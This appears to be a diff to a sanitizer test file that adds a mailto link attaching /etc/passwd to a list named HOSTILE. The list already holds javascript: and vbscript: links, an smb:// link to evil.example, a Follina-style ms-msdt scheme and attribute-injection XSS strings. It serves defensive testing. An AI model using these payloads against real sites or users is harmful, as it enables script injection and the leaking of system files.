@@ -224,6 +224,7 @@ HOSTILE = [
     "[vb](vbscript:msgbox(1))",
     "[smb](smb://evil.example/share)",
     "[follina](ms-msdt:/id%20x) <search-ms:query=x>",
+    "[mail](mailto:a@example.org?attach=/etc/passwd)",
     '<a href="javascript:alert(1)">x</a>',
     '" onmouseover="alert(1)',
     "' onfocus='alert(1)",
